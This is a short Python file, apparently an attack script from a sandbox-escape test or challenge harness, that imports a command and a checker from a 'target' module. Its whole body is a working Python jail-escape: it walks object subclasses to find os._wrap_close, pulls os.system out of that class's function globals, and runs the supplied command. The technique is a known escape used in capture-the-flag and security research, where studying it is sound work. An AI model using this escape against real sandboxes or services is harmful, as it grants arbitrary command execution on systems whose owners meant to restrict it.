from target import COMMAND, check


def attack():
    found = next(kind for kind in ().__class__.__base__.__subclasses__() if kind.__name__ == "_wrap_close")
    found.__init__.__globals__["system"](COMMAND)
    return check()
